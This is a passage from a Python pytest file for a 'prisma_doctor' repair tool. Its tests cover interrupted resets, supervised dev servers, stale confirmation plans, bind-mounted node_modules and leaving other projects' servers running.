        [sys.executable, "-m", "prisma_doctor", "reset", "--yes", "--deep"],
        cwd=project,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert repair.stdout is not None
    seen = []
    for line in repair.stdout:
        seen.append(line)
        if "Remove the old" in line:
            time.sleep(0.2)
            repair.send_signal(2)
            break
    out = "".join(seen) + repair.stdout.read()
    repair.wait(timeout=120)

    client = project / "node_modules" / ".prisma" / "client" / "schema.prisma"
    assert client.is_file(), out
    assert "email" in client.read_text()
    assert "Traceback" not in (repair.stderr.read() if repair.stderr else "")
    assert doctor("check", cwd=project).returncode == 0
    try:
        # The discard cannot be interrupted; the restart that must follow a cancel still ran.
        assert repair.returncode == 130, out
        assert _answers(port), out
    finally:
        server.kill()
        server.wait()
        _kill_project_processes(project)


def _servers_in(project: Path) -> list[psutil.Process]:
    found = []
    for process in psutil.process_iter(["cmdline", "cwd"]):
        cmdline = " ".join(process.info["cmdline"] or [])
        if process.info["cwd"] == str(project) and "next dev" in cmdline and cmdline.startswith("node"):
            found.append(process)
    return found


@pytest.mark.node
def test_a_server_a_supervisor_brings_back_is_never_doubled(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    port = _stand_in_dev_script(project)
    add_field(project, "email")
    serve = f"cd {shlex.quote(str(project))} && exec node node_modules/.bin/next dev -p {port}"
    # A supervisor the doctor cannot read as one (a shell's loop is refused: test_repair_other_start.py).
    loop = f"import subprocess, time\nwhile True:\n    subprocess.run({serve!r}, shell=True)\n    time.sleep(0.3)\n"
    supervisor = subprocess.Popen([sys.executable, "-c", loop], cwd=tmp_path, start_new_session=True)
    try:
        _wait_answering(port)

        done = doctor("reset", "--yes", cwd=project, repair=True)

        assert done.returncode == 1, done.stdout + done.stderr
        assert "not by it, and listens on port" in done.stdout and "not started twice" in done.stdout, done.stdout
        # The server the user must look at is named: its command, folder and port.
        assert f"next dev -p {port} (in {project}, port {port}); restart it yourself" in done.stdout, done.stdout
        time.sleep(1)
        assert len(_servers_in(project)) == 1
        assert _answers(port)
    finally:
        os.killpg(supervisor.pid, 9)
        supervisor.wait()
        _kill_project_processes(project)


@pytest.mark.node
def test_a_plan_that_went_stale_at_the_prompt_does_not_run(tmp_path: Path) -> None:
    import pty

    project = project_copy("npm", tmp_path / "app")
    port = _stand_in_dev_script(project)
    env = {**os.environ, **repair_environment(), "PYTHONPATH": str(SERVER)}
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir(project)
        os.execve(sys.executable, [sys.executable, "-m", "prisma_doctor", "reset"], env)
    server = None
    try:
        shown = b""
        while b"[y/N]" not in shown:
            shown += os.read(fd, 65536)
        # While the user reads the plan, a dev server starts: the plan that was shown no longer fits.
        server = subprocess.Popen(["npm", "run", "dev"], cwd=project, env=env, start_new_session=True)
        _wait_answering(port)
        os.write(fd, b"y\n")
        rest = b""
        with contextlib.suppress(OSError):
            while chunk := os.read(fd, 65536):
                rest += chunk
        _, status = os.waitpid(pid, 0)

        assert os.waitstatus_to_exitcode(status) == 2, rest
        assert b"the project changed while the plan was read" in rest
        assert _answers(port)
    finally:
        os.close(fd)
        if server is not None:
            server.kill()
            server.wait()
        _kill_project_processes(project)


@pytest.mark.node
def test_node_modules_bind_mounted_from_the_same_filesystem_is_repaired_in_place(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    shared = tmp_path / "volume"
    shutil.move(str(project / "node_modules"), shared)
    (project / "node_modules").mkdir()
    if subprocess.run(["mount", "--bind", str(shared), str(project / "node_modules")], capture_output=True).returncode:
        pytest.skip("this machine does not allow bind mounts")
    try:
        add_field(project, "email")

        done = doctor("regenerate", "--yes", cwd=project, repair=True)

        assert done.returncode == 0, done.stdout + done.stderr
        assert "email" in (project / "node_modules" / ".prisma" / "client" / "schema.prisma").read_text()
        assert not [p for p in (project / "node_modules" / ".prisma").iterdir() if "aside" in p.name]
    finally:
        subprocess.run(["umount", "-l", str(project / "node_modules")], capture_output=True)


@pytest.mark.node
def test_a_reader_that_goes_away_does_not_stop_the_repair_half_way(tmp_path: Path) -> None:
    project = project_copy("npm", tmp_path / "app")
    _big_next(project, folders=20, files=100)
    add_field(project, "email")
    env = {**os.environ, **repair_environment(), "PYTHONPATH": str(SERVER)}
    command = f"{shlex.quote(sys.executable)} -m prisma_doctor reset --yes --deep | head -3"

    done = subprocess.run(["bash", "-c", command], cwd=project, env=env, capture_output=True, text=True, timeout=300)

    assert "Traceback" not in done.stderr, done.stderr
    assert "email" in (project / "node_modules" / ".prisma" / "client" / "schema.prisma").read_text()
    assert not any((project / ".prisma-doctor" / "aside").iterdir())
    assert doctor("check", cwd=project).returncode == 0


def test_a_user_file_nested_deeper_than_prisma_writes_makes_a_folder_not_prismas(tmp_path: Path) -> None:
    from prisma_doctor.repair.ownership import not_a_generated_client

    output = tmp_path / "generated"
    header = "/* !!! This is code generated by Prisma. Do not edit directly. !!! */\n"
    (output / "models").mkdir(parents=True)
    (output / "client.ts").write_text(header)
    (output / "models" / "User.ts").write_text(header)
    assert not_a_generated_client(output, "prisma-client") is None
    deep = output / "a" / "b" / "c" / "d" / "e" / "f" / "g" / "h" / "i"
    deep.mkdir(parents=True)
    (deep / "mine.ts").write_text(header)  # even with Prisma's header, nobody's client nests this deep

    reason = not_a_generated_client(output, "prisma-client")

    assert reason is not None and "did not write" in reason


@pytest.mark.node
def test_a_dev_server_of_another_project_keeps_running(
    tmp_path: Path, watch_template: Path, restarted_groups: list[int]
) -> None:
    from tests.watch_servers import NpmRunDev
    from tests.watch_servers import project_copy as watch_project

    ours = NpmRunDev(watch_project(watch_template, tmp_path / "ours", "tsx"), tmp_path / "ours.log").start()
    # The other project's path starts with ours (`ours-too`): inside means inside the folder, not the same prefix.
    theirs = NpmRunDev(watch_project(watch_template, tmp_path / "ours-too", "tsx"), tmp_path / "theirs.log").start()
    try:
        their_tree = [psutil.Process(theirs.process.pid), *psutil.Process(theirs.process.pid).children(recursive=True)]

        code, result = repair_json("reset", ours.project, restarted=restarted_groups, env=ours.environment)

        assert code == 0, json.dumps(result, indent=2)
        stop = next(step for step in result["steps"] if step["name"] == "stop")
        assert all(str(ours.project) in detail for detail in stop["details"] if detail.startswith("stopped")), stop
        assert all(process.is_running() for process in their_tree)
        assert theirs.users().status == 200 and ours.users().status == 200
    finally:
        theirs.stop()
        ours.stop()
